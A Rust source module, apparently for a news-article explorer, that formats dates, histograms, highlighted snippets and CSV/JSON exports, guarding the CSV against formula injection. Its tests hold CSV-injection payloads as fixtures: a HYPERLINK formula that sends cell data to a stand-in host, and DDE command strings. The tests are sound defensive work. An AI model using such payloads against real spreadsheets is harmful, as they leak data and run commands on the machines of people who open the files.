//! What the explorer shows, computed here so the UI only renders: dates at their
//! precision, the date histogram's buckets, snippets with highlighted query terms,
//! an article's main actors, and the rows of an export.

use serde::Serialize;

use crate::model::{Actor, ActorType, Article, ArticleActor, DateInfo, Precision};
use crate::search::{FacetCount, Mark, Selection, parse_text};

const MONTHS: [&str; 12] = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

/// "Dec 2021" for `2021-12`; `None` when the key is not `YYYY-MM`.
pub fn month_label(key: &str) -> Option<String> {
    let m: usize = key.get(5..7)?.parse().ok()?;
    Some(format!("{} {}", MONTHS.get(m.checked_sub(1)?)?, key.get(0..4)?))
}

/// A date as a reader expects it, never more precise than what is known:
/// "2023", "Dec 2021", "15 Dec 2021", "22 Mar 2023, 17:16".
pub fn date_label(d: &DateInfo) -> String {
    let v = d.value.as_str();
    let day = || v.get(8..10).map(|s| s.trim_start_matches('0').to_owned());
    let label = match d.precision {
        Precision::Year => v.get(0..4).map(str::to_owned),
        Precision::Month => month_label(v),
        Precision::Day => month_label(v).zip(day()).map(|(m, d)| format!("{d} {m}")),
        Precision::Minute => month_label(v).zip(day()).zip(v.get(11..16)).map(|((m, d), t)| format!("{d} {m}, {t}")),
    };
    label.unwrap_or_else(|| v.to_owned())
}

/// A date written as ISO 8601 at any precision (`2021`, `2021-12`, `2021-12-15`,
/// `2021-12-15T10:30`), shown as [`date_label`] shows it.
pub fn iso_label(value: &str) -> String {
    let precision = match value.len() {
        4 => Precision::Year,
        7 => Precision::Month,
        10 => Precision::Day,
        _ => Precision::Minute,
    };
    date_label(&DateInfo { value: value.into(), precision, source: crate::model::Source::Inferred, evidence: Default::default() })
}

/// One bar of the date histogram: a month, or a year when the corpus spans many years.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Bucket {
    /// `YYYY-MM` or `YYYY`; also the `from`/`to` bound the bar selects.
    pub key: String,
    pub label: String,
    pub count: usize,
}

/// Above this many months the histogram shows years.
pub const MAX_MONTH_BARS: usize = 48;

fn month_index(key: &str) -> Option<u32> {
    let y: u32 = key.get(0..4)?.parse().ok()?;
    let m: u32 = key.get(5..7)?.parse().ok()?;
    (1..=12).contains(&m).then(|| y * 12 + m - 1)
}

/// Buckets over the whole span `first..=last` (months, `YYYY-MM`), so bars do not move
/// as filters change; counts come from `months` (the current results by month).
pub fn histogram(first: &str, last: &str, months: &[FacetCount]) -> Vec<Bucket> {
    let (Some(a), Some(b)) = (month_index(first), month_index(last)) else { return Vec::new() };
    let (a, b) = (a.min(b), a.max(b));
    if (b - a + 1) as usize <= MAX_MONTH_BARS {
        let mut counts = vec![0; (b - a + 1) as usize];
        for m in months {
            if let Some(i) = month_index(&m.value).filter(|i| (a..=b).contains(i)) {
                counts[(i - a) as usize] += m.count;
            }
        }
        counts
            .into_iter()
            .enumerate()
            .map(|(i, count)| {
                let k = a + i as u32;
                let key = format!("{:04}-{:02}", k / 12, k % 12 + 1);
                Bucket { label: month_label(&key).unwrap_or_default(), key, count }
            })
            .collect()
    } else {
        let (ya, yb) = (a / 12, b / 12);
        let mut counts = vec![0; (yb - ya + 1) as usize];
        for m in months {
            if let Some(i) = month_index(&m.value).filter(|i| (a..=b).contains(i)) {
                counts[(i / 12 - ya) as usize] += m.count;
            }
        }
        counts
            .into_iter()
            .enumerate()
            .map(|(i, count)| Bucket { key: (ya + i as u32).to_string(), label: (ya + i as u32).to_string(), count })
            .collect()
    }
}

/// A run of text, highlighted or not.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Piece {
    pub text: String,
    pub hit: bool,
}

/// The terms a query highlights: whole words, a word being typed (a prefix), and phrases.
#[derive(Debug, Clone, Default)]
pub struct Terms {
    words: Vec<String>,
    prefix: Option<String>,
    phrases: Vec<String>,
}

impl Terms {
    /// Read the search box the way the engine does ([`crate::search::parse_text`]).
    pub fn new(text: &str) -> Terms {
        let (phrases, mut words) = parse_text(text);
        let prefix = if crate::search::typing_last_word(text) { words.pop() } else { None };
        Terms { words, prefix, phrases: phrases.into_iter().map(|p| p.to_lowercase()).filter(|p| !p.is_empty()).collect() }
    }

    pub fn is_empty(&self) -> bool {
        self.words.is_empty() && self.prefix.is_none() && self.phrases.is_empty()
    }

    /// Byte ranges of `text` to highlight, sorted and merged.
    pub fn ranges(&self, text: &str) -> Vec<(usize, usize)> {
        if self.is_empty() {
            return Vec::new(); // nothing to look for: no need to lower-case the text
        }
        let lower = crate::search::lowercase_same_len(text);
        let mut out = Vec::new();
        for p in &self.phrases {
            let mut from = 0;
            while let Some(i) = lower[from..].find(p.as_str()) {
                out.push((from + i, from + i + p.len()));
                from += i + p.len();
            }
        }
        let mut start = None;
        for (i, c) in lower.char_indices().chain(std::iter::once((lower.len(), ' '))) {
            match (c.is_alphanumeric(), start) {
                (true, None) => start = Some(i),
                (false, Some(s)) => {
                    let w = &lower[s..i];
                    if self.words.iter().any(|x| x == w) {
                        out.push((s, i));
                    } else if let Some(p) = self.prefix.as_ref().filter(|p| w.starts_with(p.as_str())) {
                        out.push((s, s + p.len()));
                    }
                    start = None;
                }
                _ => {}
            }
        }
        out.sort_unstable();
        let mut merged: Vec<(usize, usize)> = Vec::new();
        for (s, e) in out {
            match merged.last_mut() {
                Some(last) if s <= last.1 => last.1 = last.1.max(e),
                _ => merged.push((s, e)),
            }
        }
        merged
    }

    /// `text` cut into highlighted and plain pieces.
    pub fn highlight(&self, text: &str) -> Vec<Piece> {
        let mut out = Vec::new();
        let mut at = 0;
        for (s, e) in self.ranges(text) {
            if s > at {
                out.push(Piece { text: text[at..s].to_owned(), hit: false });
            }
            out.push(Piece { text: text[s..e].to_owned(), hit: true });
            at = e;
        }
        if at < text.len() || out.is_empty() {
            out.push(Piece { text: text[at..].to_owned(), hit: false });
        }
        out
    }
}

/// A run of a body paragraph in the reader: a search hit or not, and the actor it mentions.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Run {
    pub text: String,
    pub hit: bool,
    /// Index into `Article::actors`.
    pub actor: Option<usize>,
    /// Index into `Article::quotes`: the run is part of that quote.
    pub quote: Option<usize>,
}

/// Every body paragraph of an article cut at each actor mention, quote and search hit. The
/// spans are sorted into their paragraphs once, and each paragraph is swept once, keeping the
/// marks that cover the current stretch: linear in the article however many marks it has (an
/// 8 MB paragraph of 100k quotes froze the reader for 36 s when each stretch looked through
/// all of them).
pub fn article_runs(article: &Article, terms: &Terms) -> Vec<Vec<Run>> {
    let n = article.body.len();
    // (start, end, index) of each paragraph's actor mentions and quotes, in index order.
    let mut mentions: Vec<Vec<(usize, usize, usize)>> = vec![Vec::new(); n];
    for (i, a) in article.actors.iter().enumerate() {
        for s in &a.spans {
            if let Some(m) = mentions.get_mut(s.paragraph as usize) {
                m.push((s.start as usize, s.end as usize, i));
            }
        }
    }
    let mut quotes: Vec<Vec<(usize, usize, usize)>> = vec![Vec::new(); n];
    for (i, q) in article.quotes.iter().enumerate() {
        if let Some(m) = quotes.get_mut(q.span.paragraph as usize) {
            m.push((q.span.start as usize, q.span.end as usize, i));
        }
    }
    article.body.iter().zip(mentions).zip(quotes).map(|((text, m), q)| runs_of(text, m, q, &terms.ranges(text))).collect()
}

/// A paragraph cut at its marks: a stretch between two cuts is in a hit when a hit covers it,
/// and mentions the actor (is part of the quote) of lowest index among those covering it.
fn runs_of(text: &str, mentions: Vec<(usize, usize, usize)>, quotes: Vec<(usize, usize, usize)>, hits: &[(usize, usize)]) -> Vec<Run> {
    let valid = |&(s, e, _): &(usize, usize, usize)| s < e && e <= text.len() && text.is_char_boundary(s) && text.is_char_boundary(e);
    // Where each mark begins and ends: 0 for a hit, 1 for a mention, 2 for a quote.
    let mut edges: Vec<(usize, bool, u8, usize)> = Vec::new(); // (offset, begins, kind, index)
    for (kind, marks) in [(1, mentions), (2, quotes)] {
        for (s, e, i) in marks.into_iter().filter(valid) {
            edges.extend([(s, true, kind, i), (e, false, kind, i)]);
        }
    }
    edges.extend(hits.iter().flat_map(|&(s, e)| [(s, true, 0, 0), (e, false, 0, 0)]));
    edges.sort_unstable();
    // Every edge is within the text: its offsets, in order, between 0 and the end.
    let mut cuts: Vec<usize> = std::iter::once(0).chain(edges.iter().map(|e| e.0)).chain([text.len()]).collect();
    cuts.dedup();
    // The marks covering the current stretch, by kind: hits, actors and quotes by index (a
    // few at once: lists, which cost the page less than maps).
    let (mut hits, mut actors, mut quotes) = (Vec::new(), Vec::new(), Vec::new());
    let mut next = 0;
    let mut runs: Vec<Run> = Vec::new();
    for w in cuts.windows(2) {
        let (s, e) = (w[0], w[1]);
        while let Some(&(_, begins, kind, i)) = edges.get(next).filter(|edge| edge.0 <= s) {
            next += 1;
            let marks: &mut Vec<usize> = match kind {
                0 => &mut hits,
                1 => &mut actors,
                _ => &mut quotes,
            };
            if begins {
                marks.push(i);
            } else if let Some(k) = marks.iter().position(|&x| x == i) {
                marks.swap_remove(k);
            }
        }
        let hit = !hits.is_empty();
        let actor = actors.iter().min().copied();
        let quote = quotes.iter().min().copied();
        match runs.last_mut() {
            Some(last) if last.hit == hit && last.actor == actor && actor.is_none() && last.quote == quote => {
                last.text.push_str(&text[s..e])
            }
            _ => runs.push(Run { text: text[s..e].to_owned(), hit, actor, quote }),
        }
    }
    runs
}

/// A snippet of about `max` characters: the paragraph with the most hits (else the first),
/// cut around its first hit at word boundaries, with the hits marked.
pub fn snippet(article: &Article, terms: &Terms, max: usize) -> Vec<Piece> {
    let best = article.body.iter().map(|p| (terms.ranges(p), p)).max_by_key(|(r, _)| r.len()).filter(|(r, _)| !r.is_empty());
    let (para, first_hit) = match best {
        Some((r, p)) => (p.as_str(), r[0].0),
        None => (article.body.first().map_or("", String::as_str), 0),
    };
    let char_len = para.chars().count();
    if char_len <= max {
        return terms.highlight(para);
    }
    // Start a little before the hit, on a word boundary.
    let hit_char = para[..first_hit].chars().count();
    let start_char = hit_char.saturating_sub(max / 4);
    let mut start = para.char_indices().nth(start_char).map_or(0, |(i, _)| i);
    if start > 0 {
        start = para[start..].find(' ').map_or(start, |i| start + i + 1);
    }
    let rest = &para[start..];
    let mut end = rest.char_indices().nth(max).map_or(rest.len(), |(i, _)| i);
    if end < rest.len() {
        end = rest[..end].rfind(' ').unwrap_or(end);
    }
    let mut pieces = terms.highlight(&rest[..end]);
    if start > 0 {
        pieces.insert(0, Piece { text: "… ".into(), hit: false });
    }
    if start + end < para.len() {
        pieces.push(Piece { text: " …".into(), hit: false });
    }
    pieces
}

/// The actors a result shows as chips: people, countries and organisations by mentions.
pub fn main_actors(article: &Article, n: usize) -> Vec<&ArticleActor> {
    let mut v: Vec<&ArticleActor> = article.actors.iter().filter(|a| a.kind != ActorType::Place).collect();
    v.sort_by(|a, b| b.mentions.cmp(&a.mentions).then(a.name.cmp(&b.name)));
    v.truncate(n);
    v
}

/// One actor type's rows in the actor facet.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ActorRows {
    /// (name, articles), most frequent first; selected actors with no article left come last, with 0.
    pub rows: Vec<(String, usize)>,
    /// Actors of the type left out past its limit.
    pub hidden: usize,
}

/// The actor facet, one [`ActorRows`] for each type of [`ActorType::ALL`], in one pass over
/// `counts` (the results' actors with their article counts, most frequent first): the actors
/// whose name contains `needle` (lower case), up to the type's limit. Selected actors always
/// stay listed, whatever the limit and the needle, with 0 when no article is left.
pub fn actor_rows(actors: &[Actor], counts: &[(u32, usize)], needle: &str, limits: [usize; 4], selected: &Selection) -> [ActorRows; 4] {
    let mut out: [ActorRows; 4] = Default::default();
    for &(id, count) in counts {
        let Some(a) = actors.get(id as usize) else { continue };
        let chosen = !selected.is_empty() && selected.state(&a.name) != Mark::None;
        if !chosen && !needle.is_empty() && !a.name.to_lowercase().contains(needle) {
            continue;
        }
        let group = &mut out[a.kind as usize];
        if chosen || group.rows.len() < limits[a.kind as usize] {
            group.rows.push((a.name.to_string(), count));
        } else {
            group.hidden += 1;
        }
    }
    for name in selected.include.iter().chain(&selected.exclude) {
        for a in actors.iter().filter(|a| a.name == *name) {
            let rows = &mut out[a.kind as usize].rows;
            if !rows.iter().any(|(n, _)| n == name) {
                rows.push((name.clone(), 0));
            }
        }
    }
    out
}

/// One exported article: the columns of the CSV, the fields of the JSON (which adds the body).
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct ExportRow {
    pub id: u32,
    pub title: String,
    pub outlet: String,
    pub origin: String,
    /// ISO 8601 at its precision.
    pub date: String,
    pub date_precision: String,
    pub authors: Vec<String>,
    /// Canonical names, most mentioned first.
    pub actors: Vec<String>,
    pub file: String,
    pub words: usize,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub body: Option<Vec<String>>,
}

impl ExportRow {
    /// The row of an article whose body is in place.
    pub fn new(a: &Article, with_body: bool) -> ExportRow {
        ExportRow::of(a, &a.body.iter().map(String::as_str).collect::<Vec<_>>(), with_body)
    }

    /// The row of an article and its body (which the explorer keeps compressed apart).
    pub fn of(a: &Article, body: &[&str], with_body: bool) -> ExportRow {
        let mut actors: Vec<&ArticleActor> = a.actors.iter().collect();
        actors.sort_by(|x, y| y.mentions.cmp(&x.mentions).then(x.name.cmp(&y.name)));
        ExportRow {
            id: a.id,
            title: a.title.to_string(),
            outlet: a.outlet_name().unwrap_or_default().to_owned(),
            origin: a.origin_name().unwrap_or_default().to_owned(),
            date: a.date.as_ref().map(|d| d.value.to_string()).unwrap_or_default(),
            date_precision: a.date.as_ref().map(|d| format!("{:?}", d.precision).to_lowercase()).unwrap_or_default(),
            authors: a.authors.iter().map(|s| s.to_string()).collect(),
            actors: actors.iter().map(|x| x.corpus_name().to_owned()).collect(),
            file: a.file.clone(),
            words: body.iter().map(|p| word_count(p)).sum(),
            body: with_body.then(|| body.iter().map(|p| (*p).to_owned()).collect()),
        }
    }
}

/// `x` rounded to `places` decimals (halves away from zero), trailing zeros dropped ("12",
/// "12.5", "0.15"), written with integers, for the views' SVG numbers and percentages (as
/// `f64`'s own formatting, each call site of which cost the page's wasm bytes: 0.6 KB less
/// for the timeline's, the histogram's and the matrix's).
pub fn fixed(x: f64, places: u32) -> String {
    let scale = 10i64.pow(places);
    let n = (x * scale as f64).round() as i64;
    let (sign, n) = if n < 0 { ("-", n.unsigned_abs()) } else { ("", n as u64) };
    let (whole, mut frac, mut width) = (n / scale as u64, n % scale as u64, places as usize);
    while width > 0 && frac % 10 == 0 {
        frac /= 10;
        width -= 1;
    }
    if width == 0 { format!("{sign}{whole}") } else { format!("{sign}{whole}.{frac:0width$}") }
}

/// The words of a text as `split_whitespace` counts them, read a byte at a time while the
/// text is ASCII (the `char` iterator was most of an export's time in the page's wasm).
pub fn word_count(text: &str) -> usize {
    let bytes = text.as_bytes();
    let (mut words, mut in_word, mut i) = (0, false, 0);
    while i < bytes.len() {
        let (space, len) = match bytes[i] {
            b' ' | b'\t'..=b'\r' => (true, 1),
            b if b.is_ascii() => (false, 1),
            _ => {
                let c = text[i..].chars().next().unwrap_or_default();
                (c.is_whitespace(), c.len_utf8().max(1))
            }
        };
        words += usize::from(!space && !in_word);
        in_word = !space;
        i += len;
    }
    words
}

/// The CSV header of an export.
pub const CSV_HEADER: [&str; 10] = ["id", "title", "outlet", "origin", "date", "date_precision", "authors", "actors", "file", "words"];

/// A CSV cell that a spreadsheet could read as a formula: one that starts with `=`, `+`,
/// `-`, `@`, a tab or a carriage return (OWASP, "CSV Injection").
fn formula_like(v: &str) -> bool {
    v.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// One text cell as OWASP recommends against CSV injection: a cell that could start a formula
/// gets a leading `'` (shown as text by Excel, LibreOffice and Google Sheets), and every text
/// cell is wrapped in double quotes with its own quotes doubled (RFC 4180), so a separator,
/// quote or line break inside it cannot start another cell either.
pub fn csv_cell(v: &str) -> String {
    let mut out = String::with_capacity(v.len() + 3);
    out.push('"');
    if formula_like(v) {
        out.push('\'');
    }
    out.push_str(&v.replace('"', "\"\""));
    out.push('"');
    out
}

/// RFC 4180 CSV of the rows (lists joined with "; "), with a header line. Text cells are
/// quoted and neutralised ([`csv_cell`]); the numbers (id, words) are written bare.
pub fn csv(rows: &[ExportRow]) -> String {
    let mut out = CSV_HEADER.join(",");
    out.push_str("\r\n");
    out.push_str(&csv_lines(rows));
    out
}

/// The lines of [`csv`] after its header: an export made a slice of rows at a time.
pub fn csv_lines(rows: &[ExportRow]) -> String {
    let mut out = String::new();
    for r in rows {
        let texts = [
            r.title.as_str(),
            r.outlet.as_str(),
            r.origin.as_str(),
            r.date.as_str(),
            r.date_precision.as_str(),
            &r.authors.join("; "),
            &r.actors.join("; "),
            r.file.as_str(),
        ]
        .map(csv_cell);
        out.push_str(&r.id.to_string());
        for cell in texts {
            out.push(',');
            out.push_str(&cell);
        }
        out.push(',');
        out.push_str(&r.words.to_string());
        out.push_str("\r\n");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::Source;

    fn date(v: &str, p: Precision) -> DateInfo {
        DateInfo { value: v.into(), precision: p, source: Source::Text, evidence: Default::default() }
    }

    #[test]
    fn actor_rows_keep_limits_needles_and_selections() {
        let actor = |id: u32, name: &str, kind| Actor { id, name: name.into(), kind, role: None };
        let actors = vec![
            actor(0, "Ann Lee", ActorType::Person),
            actor(1, "Bo Li", ActorType::Person),
            actor(2, "Cy Lam", ActorType::Person),
            actor(3, "France", ActorType::Country),
            actor(4, "Dee Ray", ActorType::Person),
        ];
        // The results' actors, most frequent first; Dee Ray is in none of them.
        let counts = [(3, 9), (1, 7), (0, 5), (2, 1)];
        let none = Selection::default();
        let rows = actor_rows(&actors, &counts, "", [2, 2, 2, 2], &none);
        assert_eq!(rows[0], ActorRows { rows: vec![("Bo Li".into(), 7), ("Ann Lee".into(), 5)], hidden: 1 });
        assert_eq!(rows[1], ActorRows { rows: vec![("France".into(), 9)], hidden: 0 });
        assert_eq!(rows[2], ActorRows::default());
        // A needle in lower case keeps the names that contain it.
        let rows = actor_rows(&actors, &counts, "l", [9; 4], &none);
        assert_eq!(rows[0].rows, vec![("Bo Li".to_owned(), 7), ("Ann Lee".to_owned(), 5), ("Cy Lam".to_owned(), 1)]);
        assert!(rows[1].rows.is_empty());
        // Selected actors stay, past the limit and the needle, and with 0 when no result has them.
        let picked = Selection { include: vec!["Cy Lam".into(), "Dee Ray".into()], exclude: vec!["France".into()] };
        let rows = actor_rows(&actors, &counts, "bo", [1; 4], &picked);
        assert_eq!(rows[0], ActorRows { rows: vec![("Bo Li".into(), 7), ("Cy Lam".into(), 1), ("Dee Ray".into(), 0)], hidden: 0 });
        assert_eq!(rows[1].rows, vec![("France".to_owned(), 9)]);
    }

    proptest::proptest! {
        /// `fixed` writes what the float formatter writes at that precision, less its
        /// trailing zeros.
        #[test]
        fn fixed_is_the_float_formatter_s(x in -1.0e6f64..1.0e6, places in 0u32..4) {
            // Exactly halfway, the formatter rounds to even and `fixed` away from zero.
            proptest::prop_assume!(((x * 10f64.powi(places as i32)).fract().abs() - 0.5).abs() > 1e-6);
            let want = format!("{x:.*}", places as usize);
            let want = if want.contains('.') { want.trim_end_matches('0').trim_end_matches('.').to_owned() } else { want };
            let want = if want == "-0" { "0".to_owned() } else { want };
            proptest::prop_assert_eq!(fixed(x, places), want);
        }

        #[test]
        fn word_count_is_split_whitespace_s(text in "([a-z .,\t\n\x0b\x0c\r]|\\PC|[\u{a0}\u{2003}\u{3000}\u{85}])*") {
            proptest::prop_assert_eq!(word_count(&text), text.split_whitespace().count());
        }
    }

    #[test]
    fn dates_show_their_precision() {
        assert_eq!(date_label(&date("2021-12", Precision::Month)), "Dec 2021");
        assert_eq!(date_label(&date("2023", Precision::Year)), "2023");
        assert_eq!(date_label(&date("2022-02-04", Precision::Day)), "4 Feb 2022");
        assert_eq!(date_label(&date("2023-03-22T17:16", Precision::Minute)), "22 Mar 2023, 17:16");
        assert_eq!(iso_label("2021-12"), "Dec 2021");
        assert_eq!(iso_label("2023-03-22T17:16"), "22 Mar 2023, 17:16");
    }

    #[test]
    fn histogram_fills_gaps_and_switches_to_years() {
        let m = |v: &str, c| FacetCount { value: v.into(), count: c };
        let b = histogram("2021-11", "2022-02", &[m("2021-12", 2), m("2022-02", 1)]);
        assert_eq!(
            b.iter().map(|b| (b.key.as_str(), b.count)).collect::<Vec<_>>(),
            [("2021-11", 0), ("2021-12", 2), ("2022-01", 0), ("2022-02", 1)]
        );
        assert_eq!(b[1].label, "Dec 2021");
        let y = histogram("2015-01", "2023-06", &[m("2015-03", 1), m("2015-09", 2), m("2023-06", 4)]);
        assert_eq!(y.len(), 9);
        assert_eq!((y[0].key.as_str(), y[0].count), ("2015", 3));
        assert_eq!((y[8].key.as_str(), y[8].count), ("2023", 4));
    }

    #[test]
    fn highlights_words_prefixes_and_phrases() {
        let t = Terms::new("\"no limits\" Xi ener");
        let pieces = t.highlight("Xi said: a friendship with No Limits, on energy and XI-era policy.");
        let hits: Vec<&str> = pieces.iter().filter(|p| p.hit).map(|p| p.text.as_str()).collect();
        assert_eq!(hits, ["Xi", "No Limits", "ener", "XI"]);
        assert_eq!(
            pieces.iter().map(|p| p.text.as_str()).collect::<String>(),
            "Xi said: a friendship with No Limits, on energy and XI-era policy."
        );
        assert!(Terms::new("  ").highlight("abc").iter().all(|p| !p.hit));
    }

    #[test]
    fn snippet_centres_on_the_best_paragraph() {
        let mut a = Article::new(0, "a.txt", "T");
        a.body = vec!["Nothing here.".into(), format!("{} The pipeline will carry gas. {}", "word ".repeat(80), "more ".repeat(80))];
        let s = snippet(&a, &Terms::new("pipeline "), 120);
        let text: String = s.iter().map(|p| p.text.as_str()).collect();
        assert!(text.starts_with("… ") && text.ends_with(" …"), "{text}");
        assert!(s.iter().any(|p| p.hit && p.text == "pipeline"));
        assert!(text.chars().count() <= 126);
        assert_eq!(snippet(&a, &Terms::new(""), 120)[0].text, "Nothing here.");
    }

    #[test]
    fn reader_runs_mark_mentions_and_hits() {
        use crate::model::{ArticleActor, Span};
        let mut a = Article::new(0, "a.txt", "T");
        a.body = vec!["President Xi met Putin to talk energy.".into()];
        let actor = |name: &str, start: u32, end: u32| ArticleActor {
            canonical: None,
            id: 0,
            name: name.into(),
            kind: ActorType::Person,
            role: None,
            forms: vec![],
            metonyms: vec![],
            mentions: 1,
            spans: vec![Span { paragraph: 0, start, end }],
        };
        a.actors = vec![actor("Xi Jinping", 0, 12), actor("Vladimir Putin", 17, 22)];
        let runs = &article_runs(&a, &Terms::new("energy xi "))[0];
        let shown: Vec<(&str, bool, Option<usize>)> = runs.iter().map(|r| (r.text.as_str(), r.hit, r.actor)).collect();
        assert!(runs.iter().all(|r| r.quote.is_none()));
        assert_eq!(
            shown,
            [
                ("President ", false, Some(0)),
                ("Xi", true, Some(0)),
                (" met ", false, None),
                ("Putin", false, Some(1)),
                (" to talk ", false, None),
                ("energy", true, None),
                (".", false, None)
            ]
        );
        assert_eq!(article_runs(&a, &Terms::default()).len(), 1);
    }

    /// The runs as they were first made, each stretch looking through every mark: the
    /// reference the sweep must agree with.
    fn runs_by_looking(
        text: &str,
        mentions: &[(usize, usize, usize)],
        quotes: &[(usize, usize, usize)],
        hits: &[(usize, usize)],
    ) -> Vec<Run> {
        let valid = |&&(s, e, _): &&(usize, usize, usize)| s < e && e <= text.len() && text.is_char_boundary(s) && text.is_char_boundary(e);
        let mentions: Vec<_> = mentions.iter().filter(valid).copied().collect();
        let quotes: Vec<_> = quotes.iter().filter(valid).copied().collect();
        let mut cuts: Vec<usize> = vec![0, text.len()];
        cuts.extend(mentions.iter().flat_map(|&(s, e, _)| [s, e]));
        cuts.extend(hits.iter().flat_map(|&(s, e)| [s, e]));
        cuts.extend(quotes.iter().flat_map(|&(s, e, _)| [s, e]));
        cuts.sort_unstable();
        cuts.dedup();
        let mut runs: Vec<Run> = Vec::new();
        for w in cuts.windows(2) {
            let (s, e) = (w[0], w[1]);
            let hit = hits.iter().any(|&(a, b)| a <= s && e <= b);
            let actor = mentions.iter().find(|&&(a, b, _)| a <= s && e <= b).map(|m| m.2);
            let quote = quotes.iter().find(|&&(a, b, _)| a <= s && e <= b).map(|m| m.2);
            match runs.last_mut() {
                Some(last) if last.hit == hit && last.actor == actor && actor.is_none() && last.quote == quote => {
                    last.text.push_str(&text[s..e])
                }
                _ => runs.push(Run { text: text[s..e].to_owned(), hit, actor, quote }),
            }
        }
        runs
    }

    proptest::proptest! {
        #[test]
        fn the_sweep_cuts_as_looking_through_every_mark_does(
            text in "[a é.]{0,40}",
            spans in proptest::collection::vec((0usize..44, 0usize..44, 0usize..4, proptest::bool::ANY), 0..12),
            words in "(a|é|aa)? ?(a|é)?",
        ) {
            // Mentions of actors 0..4 sorted by actor (as an article lists them), quotes in order.
            let mut mentions: Vec<(usize, usize, usize)> = spans.iter().filter(|s| s.3).map(|&(s, e, i, _)| (s, e, i)).collect();
            mentions.sort_by_key(|m| m.2);
            let quotes: Vec<(usize, usize, usize)> = spans.iter().filter(|s| !s.3).enumerate().map(|(k, &(s, e, _, _))| (s, e, k)).collect();
            let hits = Terms::new(&words).ranges(&text);
            proptest::prop_assert_eq!(runs_of(&text, mentions.clone(), quotes.clone(), &hits), runs_by_looking(&text, &mentions, &quotes, &hits));
        }
    }

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let mut a = Article::new(3, "x.txt", "Putin, Xi and the \"no limits\" pact");
        a.authors = vec!["A. Writer".into(), "B. Writer".into()];
        let out = csv(&[ExportRow::new(&a, false)]);
        let lines: Vec<&str> = out.split("\r\n").collect();
        assert_eq!(lines[0], CSV_HEADER.join(","));
        assert_eq!(
            lines[1],
            "3,\"Putin, Xi and the \"\"no limits\"\" pact\",\"\",\"\",\"\",\"\",\"A. Writer; B. Writer\",\"\",\"x.txt\",0"
        );
    }

    /// Reads one line of RFC 4180 CSV back into its cells (quoted or bare).
    fn parse_line(line: &str) -> Vec<String> {
        let (mut cells, mut cell, mut quoted, mut chars) = (Vec::new(), String::new(), false, line.chars().peekable());
        while let Some(c) = chars.next() {
            match (c, quoted) {
                ('"', true) if chars.peek() == Some(&'"') => {
                    chars.next();
                    cell.push('"');
                }
                ('"', _) => quoted = !quoted,
                (',', false) => cells.push(std::mem::take(&mut cell)),
                _ => cell.push(c),
            }
        }
        cells.push(cell);
        cells
    }

    #[test]
    fn csv_neutralises_formula_cells() {
        use crate::model::{ArticleActor, Attributed};
        let mut a = Article::new(7, "@evil.txt", "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")");
        a.outlet = Some(Attributed { name: "+1 Daily".into(), source: Source::Manifest, evidence: Default::default() });
        a.origin = Some(Attributed { name: "\tTab Agency".into(), source: Source::Manifest, evidence: Default::default() });
        a.authors = vec!["-2+3 Writer".into(), "=cmd|' /C calc'!A0".into()];
        a.actors = vec![ArticleActor::new(0, "@SUM(1+1)*cmd|' /C calc'!A0", ActorType::Person)];
        let mut b = Article::new(8, "b.txt", "\r=1+1, and a\nline");
        b.authors = vec!["Plain Name".into()];
        let out = csv(&[ExportRow::new(&a, false), ExportRow::new(&b, false)]);
        // Every text cell is quoted; no cell (as a spreadsheet reads it) starts a formula.
        let rows: Vec<&str> = out.trim_end_matches("\r\n").split("\r\n").collect();
        assert_eq!(rows.len(), 3, "{out}");
        let first = parse_line(rows[1]);
        assert_eq!(
            first,
            [
                "7",
                "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")",
                "'+1 Daily",
                "'\tTab Agency",
                "",
                "",
                "'-2+3 Writer; =cmd|' /C calc'!A0",
                "'@SUM(1+1)*cmd|' /C calc'!A0",
                "'@evil.txt",
                "0"
            ]
        );
        let second = parse_line(rows[2]);
        assert_eq!(second[1], "'\r=1+1, and a\nline");
        assert_eq!(second[6], "Plain Name");
        for cells in [&first, &second] {
            assert_eq!(cells.len(), CSV_HEADER.len());
            assert!(cells.iter().all(|c| !formula_like(c)), "{cells:?}");
        }
        // A cell that is not formula-like is left as it is, only quoted.
        assert_eq!(csv_cell("Reuters"), "\"Reuters\"");
        assert_eq!(csv_cell("a \"b\""), "\"a \"\"b\"\"\"");
        assert_eq!(csv_cell("=1"), "\"'=1\"");
    }
}
